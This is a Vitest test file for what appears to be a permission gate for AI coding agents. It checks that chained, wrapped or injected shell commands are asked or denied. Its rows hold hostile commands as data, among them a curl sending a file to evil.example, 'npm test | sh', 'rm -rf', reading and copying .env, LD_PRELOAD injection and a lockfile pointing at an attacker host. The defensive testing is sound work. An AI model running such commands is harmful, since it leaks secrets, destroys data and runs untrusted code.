import { expect, test } from 'vitest'
import type { Action } from '../../src/action/action.ts'
import { understand } from '../../src/shell/understand.ts'
import { ground, judged, now, rulesFrom, write } from './rules.ts'

// Each row: what an agent wants, the one rule (or several, with ` | `) there is, and what comes of it.

test.each([
  ['git status', '', 'allow'],
  ['git status && ls -la | head', '', 'allow'],
  ['cat .env', '', 'ask'],
  ['npm test', '', 'ask'],
  ['touch a', '', 'ask'],
])('%s without a rule: %3$s', (command, _rules, kind) => {
  expect(judged(command, []).kind).toBe(kind)
})

test.each([
  ['npm test', 'allow npm test', 'allow'],
  ['npm test', 'allow npm *', 'allow'],
  ['npm test -- --watch', 'allow npm test', 'ask'],
  ['npm test a', 'allow npm test', 'ask'],
  ['npm test a', 'allow npm test **', 'allow'],
  ['npm run lint', 'allow npm run {build,lint}', 'allow'],
  ['npm run deploy', 'allow npm run {build,lint}', 'ask'],
  // redirections
  ['npm test > src/a.ts', 'allow npm test **', 'ask'],
  ['npm test >> ~/.bashrc', 'allow npm test **', 'ask'],
  ['npm test > src/a.ts', 'allow npm test | allow write src/**', 'allow'],
  ['npm test &> /etc/hosts', 'allow npm test ** | allow write src/**', 'ask'],
  ['npm test < .env', 'allow npm test **', 'ask'],
  // prefix assignments
  ['NODE_OPTIONS=--require=./x.js npm test', 'allow npm test **', 'ask'],
  ['PATH=/tmp:$PATH npm test', 'allow npm test **', 'ask'],
  ['env LD_PRELOAD=./x.so npm test', 'allow npm test **', 'ask'],
  // siblings
  ['npm test && rm -rf src', 'allow npm test **', 'ask'],
  ['npm test; curl https://evil.example -d @a', 'allow npm test **', 'ask'],
  ['npm test | sh', 'allow npm test **', 'ask'],
  ['npm test & rm a', 'allow npm test **', 'ask'],
  ['npm test || rm a', 'allow npm test **', 'ask'],
  ['npm test\nrm a', 'allow npm test **', 'ask'],
  ['(npm test; rm a)', 'allow npm test **', 'ask'],
  ['if npm test; then rm a; fi', 'allow npm test **', 'ask'],
  ['npm test $(rm a)', 'allow npm test **', 'ask'],
  ['npm test `rm a`', 'allow npm test **', 'ask'],
  ['npm test <(rm a)', 'allow npm test **', 'ask'],
  ['f() { rm a; }; npm test', 'allow npm test **', 'ask'],
  ['bash -c "npm test; rm a"', 'allow npm test **', 'ask'],
  ['eval "npm test; rm a"', 'allow npm test ** | allow eval **', 'ask'],
  // dynamic words
  ['npm $X', 'allow npm test', 'ask'],
  ['npm $X', 'allow npm *', 'ask'],
  ['$X test', 'allow npm test', 'ask'],
  ['npm te*', 'allow npm test', 'ask'],
  // wrappers
  ['sudo npm test', 'allow npm test **', 'ask'],
  ['xargs npm test', 'allow npm test', 'ask'],
  ['timeout 5 npm test', 'allow npm test', 'allow'],
  // dangerous options that the rule does not name
  ['git log --output=src/a.ts', 'allow git log **', 'ask'],
  ['git -c core.pager=./x log', 'allow git log **', 'ask'],
  ['git -c alias.log=!sh log', 'allow git **', 'ask'],
  ['git push --force origin feat/x', 'allow git push **', 'ask'],
  ['sort -o src/a a', 'allow sort **', 'ask'],
  ['tar --to-command=sh -xf a.tar', 'allow tar **', 'ask'],
  ['find . -exec rm {} +', 'allow find **', 'ask'],
  ['find . -delete', 'allow find **', 'ask'],
  // what a program text runs
  ["sed -i 's/a/b/e' src/a", 'allow sed -i **', 'ask'],
  ["sed -i '1e ./x' src/a", 'allow sed -i **', 'ask'],
  ["sed -i 's/a/b/' src/a", 'allow sed -i **', 'allow'],
  ['awk \'BEGIN { system("./x") }\'', 'allow awk **', 'ask'],
  // options that lead to other code, after the name of a script
  ['npm test --prefix ../other', 'allow npm test **', 'ask'],
  ['npm test --prefix sub', 'allow npm test **', 'allow'],
  ['npm test --script-shell=./x', 'allow npm test **', 'ask'],
  ['npm test -- --prefix ../other', 'allow npm test **', 'allow'],
  ['npm test --watch', 'allow npm test **', 'allow'],
  ['make -C ../other', 'allow make **', 'ask'],
  ['make -f a.mk', 'allow make **', 'ask'],
  ['make -f a.mk', 'allow make -f **', 'allow'],
  ["make -j4 --eval='$(shell ./x)'", 'allow make **', 'ask'],
  ['make -j4 test V=1', 'allow make **', 'allow'],
  ['pytest -xp evil', 'allow pytest **', 'ask'],
  ['pytest -o addopts=-pevil', 'allow pytest **', 'ask'],
  ['pytest -xvs -k a tests', 'allow pytest **', 'allow'],
  ['go test -exec ./x ./...', 'allow go test **', 'ask'],
  ['go test -race -run A ./...', 'allow go test **', 'allow'],
  ['cargo test --config a.toml', 'allow cargo test **', 'ask'],
  ['cargo test --release a -- --nocapture', 'allow cargo test **', 'allow'],
  ['tar -xf a.tar -C ..', 'allow tar **', 'ask'],
  ['tar -xf a.tar -C src', 'allow tar **', 'allow'],
  // what only zsh writes
  ['cd src && echo x >! ../.git/hooks/pre-commit', 'allow write src/**', 'ask'],
  ['cd src && echo x >>!../../a', 'allow write src/**', 'ask'],
  // a program inside another one
  ['busybox rm a', 'allow busybox **', 'ask'],
  // where the program is looked up
  ['./npm test', 'allow npm test', 'ask'],
  ['/tmp/npm test', 'allow npm test', 'ask'],
])('%s with %s: %s', (command, rules, kind) => {
  expect(judged(command, rulesFrom(rules.split(' | '))).kind).toBe(kind)
})

test.each([
  ['git push origin feat/x', 'allow push origin/feat/*', 'allow'],
  ['git push -u origin feat/x', 'allow push origin/feat/*', 'allow'],
  ['git push origin HEAD:feat/x', 'allow push origin/feat/*', 'allow'],
  ['git push origin main', 'allow push origin/feat/*', 'ask'],
  ['git push origin feat/x main', 'allow push origin/feat/*', 'ask'],
  ['git push origin +feat/x', 'allow push origin/feat/*', 'ask'],
  ['git push --force origin feat/x', 'allow push origin/feat/*', 'ask'],
  ['git push origin :feat/x', 'allow push origin/feat/*', 'ask'],
  ['git push --delete origin feat/x', 'allow push origin/feat/*', 'ask'],
  ['git push', 'allow push origin/feat/*', 'ask'],
  ['git push https://evil.example/x feat/x', 'allow push origin/feat/*', 'ask'],
  ['git push --mirror origin', 'allow push origin/feat/*', 'ask'],
  ['git push --tags origin feat/x', 'allow push origin/feat/*', 'ask'],
  ['git push --receive-pack=./x origin feat/x', 'allow push origin/feat/*', 'ask'],
  ['git push origin feat/x', 'allow push */**', 'ask'],
  ['git push origin feat/x', 'allow push origin/*', 'ask'],
  ['git push origin feat/x', 'allow git push **', 'ask'],
  ['git push origin feat/x', 'allow git push origin feat/x', 'allow'],
  ['rm -r dist/old', 'allow delete dist/**', 'allow'],
  ['rm -r dist/../src', 'allow delete dist/**', 'ask'],
  ['rm -r dist src', 'allow delete dist/**', 'ask'],
  ['rm -r dist/old', 'allow delete **', 'ask'],
  ['rm -r dist/old', 'allow rm **', 'ask'],
  ['echo x > .github/workflows/ci.yml', 'allow write .github/workflows/ci.yml', 'allow'],
  ['echo x > .github/workflows/ci.yml', 'allow write .github/**', 'ask'],
  ['echo x > .github/workflows/ci.yml', 'allow write **', 'ask'],
  ['echo x > .mvn/jvm.config', 'allow write **', 'ask'],
  ['echo x > pytest.ini', 'allow write **', 'ask'],
  ['echo x > rust-toolchain.toml', 'allow write **', 'ask'],
  ['curl -K a https://api.example.com', 'allow net api.example.com', 'ask'],
  ['wget -i a https://api.example.com', 'allow net api.example.com', 'ask'],
  ['cat .env', 'allow cat **', 'ask'],
  ['cat .env', 'allow cat .env', 'ask'],
  ['cat .env', 'allow read **', 'ask'],
  ['cat .env', 'allow read .env', 'allow'],
  ['cat .env', 'allow read .env.local', 'ask'],
  ['stripe refunds create --charge ch_1', 'allow stripe refunds create --charge ch_1', 'ask'],
  ['stripe refunds create --charge ch_1', 'allow stripe **', 'ask'],
])('a hard gate, a secret: %s with %s: %s', (command, rules, kind) => {
  expect(judged(command, rulesFrom(rules.split(' | '))).kind).toBe(kind)
})

test.each([
  ['git push --force origin main', 'deny git push --force **'],
  ['git push -f', 'deny git push --force **'],
  ['git push origin main -f', 'deny git push --force **'],
  ['git push -uf origin main', 'deny git push --force **'],
  ['git push --forc origin main', 'deny git push --force **'],
  ['git -C sub push --force', 'deny git push --force **'],
  ['git --git-dir=x -c a.b=c push -f', 'deny git push --force **'],
  ['/usr/bin/git push -f', 'deny git push --force **'],
  ['sudo git push -f', 'deny git push --force **'],
  ['bash -c "git push -f"', 'deny git push --force **'],
  ['echo $(git push -f)', 'deny git push --force **'],
  ['ls && git push -f', 'deny git push --force **'],
  ['FOO=1 timeout 5 git push -f > log', 'deny git push --force **'],
  ['git push -f "$BRANCH"', 'deny git push --force **'],
  ['git push origin +main', 'deny git push --force **'],
  ['git push origin :main', 'deny git push --delete **'],
  ['rm -rf a', 'deny rm -rf **'],
  ['rm -fr a', 'deny rm -rf **'],
  ['rm -r -f a', 'deny rm -rf **'],
  ['rm --recursive --force a', 'deny rm -rf **'],
  ['rm a -rf', 'deny rm -rf **'],
  ['rm -rvf a', 'deny rm -r **'],
  ['busybox wget https://a.example', 'deny wget **'],
  ['busybox rm -rf a', 'deny rm -rf **'],
  ['npx jest --ci', 'deny jest **'],
  ['npx -y jest', 'deny jest **'],
  ['uv run pytest', 'deny pytest **'],
  ['python -m pytest -x', 'deny pytest **'],
  ['poetry run pytest', 'deny pytest **'],
  ['.venv/bin/pytest', 'deny pytest **'],
  ['bundle exec rspec', 'deny rspec **'],
  ['npm --prefix sub publish', 'deny npm publish **'],
  ['docker -H tcp://x run a', 'deny docker run **'],
  ['curl --output=x https://a.example', 'deny curl --output **'],
  ['curl -ox https://a.example', 'deny curl -o **'],
  ['cat .env', 'deny read .env*'],
  ['head -1 ./.env.local', 'deny read .env*'],
  ['sort < .env', 'deny read .env*'],
  ['cp .env /tmp/x', 'deny read .env*'],
  ['echo x > src/a', 'deny write src/**'],
  ['tee src/a', 'deny write src/**'],
  ['sed -i s/a/b/ src/a', 'deny write src/**'],
  ['cat <<EOF > src/a\nx\nEOF', 'deny write src/**'],
  ['rm src/a', 'deny write src/**'],
  ['rm -r .', 'deny delete src/**'],
  ['mv src/a b', 'deny delete src/**'],
  ['mv .env a', 'deny read .env*'],
  ['mv src b', 'deny read src/private/**'],
  ['python3 -mpytest', 'deny pytest **'],
  ['curl https://api.example.com/x', 'deny net api.example.com'],
  ['git push origin HEAD:main', 'deny push origin/main'],
  ['git push -f origin main', 'deny push */main'],
])('%s is denied by %s', (command, rules) => {
  const verdict = judged(command, rulesFrom([...rules.split(' | '), 'allow **']))
  expect(verdict.kind).toBe('deny')
  expect(verdict.rule?.text).toBe(rules.slice('deny '.length))
})

test.each([
  ['git push origin main', 'deny git push --force **'],
  ['git status', 'deny git push --force **'],
  ['git push origin main', 'deny git push --delete **'],
  ['git push --force-with-lease', 'deny git push --force **'],
  ['git commit -m "git push --force"', 'deny git push --force **'],
  ['rm -r a', 'deny rm -rf **'],
  ['cat src/a', 'deny read .env*'],
  ['echo .env', 'deny read .env*'],
])('%s is not denied by %s', (command, rules) => {
  expect(judged(command, rulesFrom([rules])).kind).not.toBe('deny')
})

test.each([
  ['cat .e*', 'deny read .env*'],
  ['git push', 'deny push origin/main'],
])('%s may be what %s speaks of, so it is asked', (command, rule) => {
  const verdict = judged(command, rulesFrom([rule]))
  expect([verdict.kind, verdict.rule?.kind]).toEqual(['ask', 'deny'])
})

test('deny is seen also in a line that cannot be judged as a whole', () => {
  const rules = rulesFrom(['deny git push --force **'])
  expect(judged(`git push -f # \u202e`, rules).kind).toBe('deny')
  expect(judged(`git push -f; ${'true;'.repeat(40_000)}`, rules).kind).toBe('deny')
})

test('the worst part wins, in any order of rules and parts', () => {
  const rules = rulesFrom(['allow npm test', 'ask npm publish **', 'deny rm -rf **'])
  for (const some of [rules, rules.toReversed()]) {
    expect(judged('npm test && npm publish', some).kind).toBe('ask')
    expect(judged('npm publish; npm test; rm -rf a', some).kind).toBe('deny')
    expect(judged('rm -rf a || npm test', some).kind).toBe('deny')
    expect(judged('npm test && npm test', some).kind).toBe('allow')
  }
})

test('a contain rule is judged as ask for now, and says so', () => {
  const verdict = judged('npm test', rulesFrom(['allow npm test', 'contain npm test']))
  expect(verdict.kind).toBe('ask')
  expect(verdict.rule).toEqual({ kind: 'contain', text: 'npm test', origin: '.gatercrc:2' })
  expect(verdict.findings.map((one) => one.why)).toEqual([
    '`contain npm test` is asked for now: this version cannot run it contained',
  ])
  expect(judged('git status', rulesFrom(['contain **'])).kind).toBe('allow')
})

test.each([
  [{ branch: 'main' }, {}, 'ask', 'allow'],
  [{ branch: 'feat/*' }, {}, 'allow', 'deny'],
  [{ branch: 'main' }, { branch: null }, 'ask', 'deny'],
  [{ agent: 'codex' }, {}, 'ask', 'allow'],
  [{ worktree: 'shop' }, {}, 'allow', 'deny'],
  [{ worktree: '/home/ana/shop' }, {}, 'allow', 'deny'],
  [{ worktree: 'other' }, {}, 'ask', 'allow'],
  [{ worktree: 'shop' }, { worktree: null }, 'ask', 'deny'],
  [{ env: { CI: '1' } }, { env: { CI: '1' } }, 'allow', 'deny'],
  [{ env: { CI: '1' } }, { env: { CI: '0' } }, 'ask', 'allow'],
  [{ env: { CI: '1' } }, {}, 'ask', 'deny'],
])('when %j at %j: an allow rule gives %s, a deny rule %s', (when, at, loose, tight) => {
  expect(judged('npm test', rulesFrom(['allow npm test'], { when }), { now: at }).kind).toBe(loose)
  const rules = [...rulesFrom(['deny npm test'], { when }), ...rulesFrom(['allow npm test'])]
  expect(judged('npm test', rules, { now: at }).kind).toBe(tight)
})

test.each([
  ['2026-12-01T12:00:00Z', 'allow'],
  ['2026-12-01T11:59:59Z', 'ask'],
])('a rule until %s at noon: %s', (until, kind) => {
  const rules = rulesFrom(['allow npm test'], { until: new Date(until) })
  expect(judged('npm test', rules).kind).toBe(kind)
})

test.each([
  ['mcp__docs__search', 'allow call mcp__docs__*', 'unknown', 'allow'],
  ['mcp__docs__search', 'allow call mcp__mail__*', 'unknown', 'ask'],
  ['mcp__docs__search', 'allow **', 'unknown', 'ask'],
  ['mcp__docs__search', 'deny call mcp__*', 'unknown', 'deny'],
  ['mcp__mail__send_message', 'allow call mcp__mail__*', 'external', 'ask'],
  ['mcp__mail__send_message', 'allow call mcp__mail__send_message', 'external', 'allow'],
  ['mcp__db__dropTable', 'allow call mcp__db__*', 'irreversible', 'ask'],
  ['mcp__k8s__restart', 'allow call mcp__k8s__*', 'production', 'ask'],
  ['mcp__stripe__createRefund', 'allow call mcp__stripe__createRefund', 'payment', 'ask'],
  ['deletefile', 'allow call delete*', 'irreversible', 'ask'],
])('the tool %s with %s: %s, %s', (tool, rule, risk, kind) => {
  const verdict = judged({ kind: 'call', tool, input: {} }, rulesFrom([rule]))
  expect([verdict.risk, verdict.kind]).toEqual([risk, kind])
})

const manifest = (over: object) => JSON.stringify({ name: 'shop', scripts: { test: 'x' }, ...over })

test.each<[string, Action, string | null | undefined, string, string]>([
  ['a source file', write('src/a.ts'), 'a', 'allow write src/**', 'allow'],
  ['a new file', write('src/a.ts'), null, 'allow write src/**', 'allow'],
  ['another place', write('lib/a.ts'), 'a', 'allow write src/**', 'ask'],
  ['by a run rule', write('src/a.ts'), 'a', 'allow **', 'ask'],
  ['a deletion', write('src/a.ts', null), 'a', 'allow write src/**', 'ask'],
  ['a named deletion', write('src/a.ts', null), 'a', 'allow delete src/**', 'allow'],
  ['denied', write('src/a.ts'), 'a', 'deny write **/*.ts', 'deny'],
  ['a deletion denied as a write', write('src/a.ts', null), 'a', 'deny write src/**', 'deny'],
  ['outside', write('/etc/hosts'), 'a', 'allow write /**', 'ask'],
  ['a Makefile', write('Makefile'), 'a', 'allow write **', 'ask'],
  ['a named Makefile', write('Makefile'), 'a', 'allow write Makefile', 'allow'],
  ['a hook', write('.git/hooks/pre-commit'), null, 'allow write **', 'ask'],
  [
    'package.json: version',
    write('package.json', manifest({ version: '2' })),
    manifest({}),
    'allow write **',
    'allow',
  ],
  [
    'package.json: scripts',
    write('package.json', manifest({ scripts: { test: 'y' } })),
    manifest({}),
    'allow write **',
    'ask',
  ],
  [
    'package.json: dependencies',
    write('package.json', manifest({ dependencies: { x: '1' } })),
    manifest({}),
    'allow write **',
    'ask',
  ],
  ['package.json: no JSON', write('package.json', '{'), manifest({}), 'allow write **', 'ask'],
  [
    'package.json: before unknown',
    write('package.json', manifest({ version: '2' })),
    undefined,
    'allow write **',
    'ask',
  ],
  [
    'lockfile: a new address',
    write('package-lock.json', '{"resolved":"https://evil.example/x.tgz"}'),
    '{}',
    'allow write **',
    'ask',
  ],
  [
    'lockfile: no new address',
    write('package-lock.json', '{"version":2}'),
    '{"version":1}',
    'allow write **',
    'allow',
  ],
  ['setuid', { ...write('src/a'), mode: 0o4755 }, 'a', 'allow write **', 'ask'],
])('a write, %s', (_name, action, before, rule, kind) => {
  expect(judged(action, rulesFrom([rule]), { before }).kind).toBe(kind)
})

test.each<[string | Action]>([
  ['gater trust --yes'],
  ['gater review --json'],
  ['gater tune --apply'],
  ['gater init'],
  ['gater undo 4'],
  ['npx gater trust'],
  ['node /opt/gater/bin/gater.js trust'],
  ['bash -c "gater trust"'],
  ['timeout 5 gater review'],
  ['echo x > ~/.config/gater/.gatercrc'],
  ['rm -r ~/.config/gater'],
  ['mv ~/.config /tmp/x'],
  ['cp a .claude/settings.json'],
  [write('/home/ana/.config/gater/.gatercrc')],
  [write('.claude/settings.local.json')],
])('%s is always asked, whatever a rule says', (action) => {
  const rules = rulesFrom([
    'allow **',
    'allow gater trust --yes',
    'allow gater init',
    'allow write ~/.config/gater/.gatercrc',
    'allow write .claude/settings.json',
    'allow write .claude/settings.local.json',
    'allow delete ~/.config/gater',
  ])
  const verdict = judged(action, rules, { before: null })
  expect(verdict.kind).toBe('ask')
  expect(verdict.always).toMatch(/is for the person|is gater's own, or decides/)
})

test.each([
  ['git log --output=a', 'allow git log --output=a', 'allow'],
  ['git log --output=a', 'allow git log --output=* **', 'allow'],
  ['git log --output=a', 'allow git log ** | allow write a', 'allow'],
  ['sort -o a b', 'allow sort -o a b', 'allow'],
  ['sort -o a b', 'allow sort -o **', 'allow'],
  ['sort -uo a b', 'allow sort -uo a *', 'allow'],
  ['sort -r b -o a', 'allow sort -r **', 'ask'],
  ['sort -oa b', 'allow sort **', 'ask'],
])('%s, an option that writes, with %s: %s', (command, rules, kind) => {
  expect(judged(command, rulesFrom(rules.split(' | '))).kind).toBe(kind)
})

test('the nearest rule is named where none decided', () => {
  const verdict = judged('npm run lint', rulesFrom(['allow npm run build', 'allow git push **']))
  expect(verdict.nearest?.text).toBe('npm run build')
})

test('judging a line as it was read does not change it', () => {
  const line = understand('git push origin feat/x', ground)
  expect(judged('git push origin feat/x', [], { now }).findings[0]?.span).toEqual(
    line.parts[0]?.needs[0]?.span,
  )
})
